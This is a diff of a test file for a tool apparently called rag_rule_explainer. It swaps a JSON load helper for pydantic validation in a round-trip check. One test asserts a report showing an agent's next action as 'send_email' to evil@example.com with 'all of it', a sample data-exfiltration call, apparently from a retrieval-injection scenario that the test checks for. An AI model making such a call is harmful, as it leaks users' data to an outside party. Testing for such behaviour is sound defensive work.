@@ -20,7 +20,6 @@ from rag_rule_explainer import (
     calls_in_order,
     calls_tool,
     contains,
-    load,
     next_call,
     number_of_calls,
 )
@@ -166,7 +165,7 @@ class TestTheNextAction:
         sent = 'calls send_email(to="evil@example.com", text="all of it")'
         assert f"Answer: {sent}" in explanation.report("text")
         assert "calls send" in explanation.report("markdown")
-        back = load(json.dumps(explanation.model_dump(mode="json")))
+        back = Explanation.model_validate_json(explanation.model_dump_json())
         assert back.baseline.calls == explanation.baseline.calls
         assert [each.answers[0].calls for each in back.probes] == [
             each.answers[0].calls for each in explanation.probes
